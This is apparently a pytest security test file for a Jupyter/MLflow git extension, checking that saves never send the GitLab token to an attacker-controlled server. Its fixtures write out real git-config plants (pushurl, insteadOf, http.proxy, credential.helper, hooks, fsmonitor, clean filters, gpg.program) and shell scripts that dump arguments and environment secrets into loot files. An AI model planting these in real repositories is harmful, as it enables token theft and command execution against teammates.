"""A teammate who shares a team folder (same uid, read-write) plants git config, hooks or
attributes in a shared repository. A save must still send the GitLab token only to the
configured GitLab, and no git call of the extension or the MLflow context provider may run
a planted command.

Everything is real: `git`, two git HTTP servers (ours and the attacker's, which records
every Authorization header it is sent), and the lab server extension (pytest-jupyter).
"""

from __future__ import annotations

import base64
import json
import os
import shutil
import stat
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import pytest

from mlops_hub.lab.context import GIT_COMMIT, NotebookRunContext
from tests.support.git_http import GitHttpServer
from tests.support.gitlab_double import GitLabApiDouble

from .conftest import TOKEN, git, notebook_json

# the hub API token is in every lab server's environment and leads to the GitLab token
HUB_TOKEN = "hub-api-t0ken-n0t-f0r-plants-77"


@pytest.fixture
def attacker() -> Iterator[GitHttpServer]:
    """A second real git server, run by whoever planted the config; it keeps what it gets."""
    server = GitHttpServer("attacker-does-not-know-it").start()
    server.create_repo("team/analysis.git", seed_files={"README.md": "# copy\n"})
    yield server
    server.stop()


@pytest.fixture
def share(jp_root_dir: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    """The team folder a teammate can write to; their planted programs drop loot here."""
    monkeypatch.setenv("JUPYTERHUB_API_TOKEN", HUB_TOKEN)
    folder = jp_root_dir / "team-share"
    folder.mkdir()
    return folder


def plant_program(share: Path, name: str, tail: str = "exit 0") -> Path:
    """A program that records its arguments, environment and input in `loot-<name>`."""
    script = share / f"{name}.sh"
    script.write_text(f'#!/bin/sh\n{{ echo "ran: $0 $*"; env; }} >> "{share}/loot-{name}"\n'
                      f"{tail}\n")
    script.chmod(script.stat().st_mode | stat.S_IXUSR | stat.S_IXGRP | stat.S_IXOTH)
    return script


def loot(share: Path) -> list[str]:
    return sorted(p.name for p in share.glob("loot-*"))


def files_holding(secret: str, *folders: Path) -> list[str]:
    found = []
    for folder in folders:
        for p in folder.rglob("*"):
            if p.is_file() and not p.is_symlink() and secret.encode() in p.read_bytes():
                found.append(str(p))
    return found


def credentials_sent(server: GitHttpServer) -> list[str]:
    """Decoded Authorization headers a server received (basic auth as user:password)."""
    out = []
    for header in server.authorizations:
        scheme, _, value = header.partition(" ")
        out.append(base64.b64decode(value).decode(errors="replace")
                   if scheme.lower() == "basic" else value)
    return out


@dataclass(frozen=True)
class Ctx:
    clone: Path
    share: Path
    attacker: str  # base URL of the attacker's git server
    gitlab: str  # base URL of the configured GitLab


def _cfg(ctx: Ctx, *args: str) -> None:
    git("config", *args, cwd=ctx.clone)


def _pushurl(ctx: Ctx) -> None:
    _cfg(ctx, "remote.origin.pushurl", f"{ctx.attacker}/team/analysis.git")


def _second_pushurl(ctx: Ctx) -> None:
    origin = git("remote", "get-url", "origin", cwd=ctx.clone)
    _cfg(ctx, "--add", "remote.origin.pushurl", origin)
    _cfg(ctx, "--add", "remote.origin.pushurl", f"{ctx.attacker}/team/analysis.git")


def _push_instead_of(ctx: Ctx) -> None:
    _cfg(ctx, f"url.{ctx.attacker}/.pushInsteadOf", f"{ctx.gitlab}/")


def _instead_of(ctx: Ctx) -> None:
    _cfg(ctx, f"url.{ctx.attacker}/.insteadOf", f"{ctx.gitlab}/")


def _included_pushurl(ctx: Ctx) -> None:
    extra = ctx.share / "team.gitconfig"
    extra.write_text(f'[remote "origin"]\n\tpushurl = {ctx.attacker}/team/analysis.git\n')
    _cfg(ctx, "include.path", str(extra))


def _pre_push_hook(ctx: Ctx) -> None:
    hook = ctx.clone / ".git" / "hooks" / "pre-push"
    hook.write_text(plant_program(ctx.share, "pre-push").read_text())
    hook.chmod(0o755)


def _hooks_path(ctx: Ctx) -> None:
    hooks = ctx.share / "hooks"
    hooks.mkdir()
    for name in ("pre-push", "reference-transaction", "post-index-change"):
        (hooks / name).write_text(plant_program(ctx.share, name).read_text())
        (hooks / name).chmod(0o755)
    _cfg(ctx, "core.hooksPath", str(hooks))


def _fsmonitor(ctx: Ctx) -> None:
    _cfg(ctx, "core.fsmonitor", str(plant_program(ctx.share, "fsmonitor", "exit 1")))


def _credential_helper(ctx: Ctx) -> None:
    program = plant_program(ctx.share, "credential", "cat >/dev/null; exit 0")
    _cfg(ctx, "credential.helper", f"!{program}")
    _cfg(ctx, f"credential.{ctx.gitlab}.helper", f"!{program}")


def _clean_filter(ctx: Ctx) -> None:
    (ctx.clone / ".gitattributes").write_text("* filter=team\n")
    _cfg(ctx, "filter.team.clean", str(plant_program(ctx.share, "filter", "cat")))
    _cfg(ctx, "filter.team.required", "true")


def _gpg_sign(ctx: Ctx) -> None:
    _cfg(ctx, "commit.gpgSign", "true")
    _cfg(ctx, "gpg.program", str(plant_program(ctx.share, "gpg", "exit 1")))


def _instead_of_chain(ctx: Ctx) -> None:
    # a push to the already rewritten URL would be rewritten again, to the attacker
    path = git("config", "remote.origin.url", cwd=ctx.clone).split("/", 3)[3]
    _cfg(ctx, "remote.origin.url", f"team-gitlab:{path}")
    _cfg(ctx, f"url.{ctx.gitlab}/.insteadOf", "team-gitlab:")
    _cfg(ctx, f"url.{ctx.attacker}/.insteadOf", f"{ctx.gitlab}/")


def _http_proxy(ctx: Ctx) -> None:
    # over plain HTTP a proxy sees the Authorization header git sends to the target
    _cfg(ctx, "http.proxy", ctx.attacker)


# plants that redirect the push: the save is refused, naming the refused host
REDIRECTS: dict[str, Callable[[Ctx], None]] = {
    "pushurl": _pushurl,
    "second-pushurl": _second_pushurl,
    "pushInsteadOf": _push_instead_of,
    "insteadOf": _instead_of,
    "include.path": _included_pushurl,
}
# plants that run a command or route the request: the save works and the plant never runs
RUNNERS: dict[str, Callable[[Ctx], None]] = {
    "pre-push-hook": _pre_push_hook,
    "core.hooksPath": _hooks_path,
    "core.fsmonitor": _fsmonitor,
    "credential.helper": _credential_helper,
    "filter.clean": _clean_filter,
    "commit.gpgSign": _gpg_sign,
    "http.proxy": _http_proxy,
    "insteadOf-chain": _instead_of_chain,
}


async def _save(fetch_json: Any, **body: Any) -> tuple[int, Any]:
    return await fetch_json("mlops-hub/gitlab/save", method="POST", body=json.dumps(body))


def _ctx(clone: Path, share: Path, attacker: GitHttpServer, git_server: GitHttpServer) -> Ctx:
    return Ctx(clone, share, attacker.url, git_server.url)


def _bare_tip(git_server: GitHttpServer, clone: Path, project: str, branch: str) -> str:
    bare = git_server.bare_repo(f"{project}.git")
    return git("--git-dir", str(bare), "rev-parse", branch, cwd=clone)


def _assert_nothing_leaked(attacker: GitHttpServer, share: Path, *folders: Path) -> None:
    assert credentials_sent(attacker) == []
    assert not any(TOKEN in c for c in credentials_sent(attacker))
    assert loot(share) == []  # no planted program ran
    assert files_holding(TOKEN, share, *folders) == []
    assert files_holding(HUB_TOKEN, share, *folders) == []


@pytest.mark.parametrize("plant", sorted(REDIRECTS))
async def test_save_refuses_a_push_redirected_away_from_gitlab(
        plant: str, fetch_json: Any, clone: Path, share: Path, attacker: GitHttpServer,
        git_server: GitHttpServer, gitlab_api: GitLabApiDouble, jp_home_dir: Path) -> None:
    REDIRECTS[plant](_ctx(clone, share, attacker, git_server))
    (clone / "nb.ipynb").write_text(notebook_json("secret = 1"))
    seen = (len(git_server.auth_attempts), len(gitlab_api.requests))

    status, body = await _save(fetch_json, path="analysis/nb.ipynb", message="m")

    assert credentials_sent(attacker) == []  # first: on failure, shows what it was sent
    assert status == 400, body
    assert body["reason"] == "invalid-input"
    host = attacker.url.removeprefix("http://")
    assert host in body["message"]  # the refused host is named ...
    assert git_server.url in body["message"]  # ... and the one the token may go to
    assert TOKEN not in json.dumps(body)
    assert attacker.requests == []  # never even contacted
    # refused before the token was fetched: not even our GitLab was asked
    assert (len(git_server.auth_attempts), len(gitlab_api.requests)) == seen
    _assert_nothing_leaked(attacker, share, clone, jp_home_dir)


@pytest.mark.parametrize("plant", sorted(RUNNERS))
async def test_save_pushes_to_gitlab_without_running_planted_commands(
        plant: str, fetch_json: Any, clone: Path, share: Path, attacker: GitHttpServer,
        git_server: GitHttpServer, jp_home_dir: Path) -> None:
    RUNNERS[plant](_ctx(clone, share, attacker, git_server))
    nb = clone / "nb.ipynb"
    nb.write_text(notebook_json("secret = 1"))
    before = len(git_server.auth_attempts)

    status, body = await _save(fetch_json, path="analysis/nb.ipynb", message="m",
                               branch="feature/safe")

    assert credentials_sent(attacker) == []  # first: on failure, shows what it was sent
    assert loot(share) == []
    assert status == 200, body
    assert _bare_tip(git_server, clone, body["project"], "feature/safe") == body["commit"]
    assert ("oauth2", True) in git_server.auth_attempts[before:]
    assert attacker.requests == []
    _assert_nothing_leaked(attacker, share, clone, jp_home_dir)


async def test_git_status_handler_runs_no_planted_command(
        fetch_json: Any, clone: Path, share: Path, attacker: GitHttpServer,
        git_server: GitHttpServer, jp_home_dir: Path) -> None:
    (clone / "nb.ipynb").write_text(notebook_json("1"))
    git("add", "nb.ipynb", cwd=clone)
    ctx = _ctx(clone, share, attacker, git_server)
    for plant in (_fsmonitor, _hooks_path, _clean_filter):
        plant(ctx)
    os.utime(clone / "nb.ipynb", (1, 1))  # stale stat info: git must look at the content

    status, body = await fetch_json("mlops-hub/git/status", params={"path": "analysis/nb.ipynb"})

    assert status == 200, body
    assert body["tracked"] is True and body["branch"] == "main"
    _assert_nothing_leaked(attacker, share, clone, jp_home_dir)


def test_mlflow_context_provider_runs_no_planted_command(
        clone: Path, share: Path, attacker: GitHttpServer, git_server: GitHttpServer,
        jp_home_dir: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    ctx = _ctx(clone, share, attacker, git_server)
    for plant in (_fsmonitor, _hooks_path, _clean_filter):
        plant(ctx)
    nb = clone / "README.md"
    os.utime(nb, (1, 1))
    monkeypatch.setenv("JPY_SESSION_NAME", str(nb))

    tags = NotebookRunContext().tags()

    assert tags[GIT_COMMIT] == git("rev-parse", "HEAD", cwd=clone)
    _assert_nothing_leaked(attacker, share, clone, jp_home_dir)



async def test_token_is_in_no_git_argument_list_or_environment(
        fetch_json: Any, clone: Path, tmp_path: Path, git_server: GitHttpServer,
        monkeypatch: pytest.MonkeyPatch) -> None:
    """Every git the extension starts (and so every program git starts) is logged with its
    argv and environment by a wrapper first on PATH, which then runs the real git."""
    real_git = shutil.which("git")
    assert real_git
    wrapper_dir = tmp_path / "bin"
    wrapper_dir.mkdir()
    log = tmp_path / "git-calls.log"
    wrapper = wrapper_dir / "git"
    wrapper.write_text(f'#!/bin/sh\n{{ printf "argv:"; printf " %s" "$@"; echo; env; }} '
                       f'>> "{log}"\nexec "{real_git}" "$@"\n')
    wrapper.chmod(0o755)
    monkeypatch.setenv("PATH", f"{wrapper_dir}{os.pathsep}{os.environ['PATH']}")
    monkeypatch.setenv("JUPYTERHUB_API_TOKEN", HUB_TOKEN)
    (clone / "nb.ipynb").write_text(notebook_json("1"))
    before = len(git_server.auth_attempts)

    status, body = await _save(fetch_json, path="analysis/nb.ipynb", message="m")

    assert status == 200, body
    assert ("oauth2", True) in git_server.auth_attempts[before:]  # the token did arrive
    calls = log.read_text()
    assert " push --porcelain " in calls  # the wrapper saw the push
    assert TOKEN not in calls
    assert HUB_TOKEN not in calls  # the server's own secrets stay out of git's reach too

